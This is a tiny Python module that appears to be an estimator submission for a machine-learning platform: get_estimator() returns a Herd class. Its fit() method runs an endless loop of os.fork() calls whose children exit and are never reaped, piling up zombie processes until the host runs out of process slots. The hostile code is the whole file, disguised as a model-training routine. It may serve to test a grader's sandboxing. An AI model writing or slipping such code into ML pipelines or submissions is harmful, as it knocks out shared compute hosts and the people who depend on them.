import os


class Herd:
    def fit(self, X, y):
        """Children that are dead and never asked how they ended."""
        while True:
            if os.fork() == 0:
                os._exit(0)


def get_estimator():
    return Herd()
